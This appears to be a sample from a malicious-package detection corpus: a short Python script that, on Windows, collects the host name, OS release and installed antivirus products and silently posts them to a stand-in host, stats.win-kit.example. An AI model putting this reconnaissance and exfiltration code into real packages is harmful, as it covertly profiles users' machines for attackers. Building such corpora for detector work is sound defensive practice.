# pkgguard corpus 868 (system-information), modelled on [empirical]; inert, never run.
import json
import platform
import sys
import urllib.request

if sys.platform == "win32":
    try:
        import wmi

        products = [p.displayName for p in wmi.WMI(namespace=r"root\SecurityCenter2").AntiVirusProduct()]
    except Exception:
        products = []
    report = {"host": platform.node(), "release": platform.release(), "av": products}
    try:
        urllib.request.urlopen("https://stats.win-kit.example/i", data=json.dumps(report).encode(), timeout=5)
    except OSError:
        pass
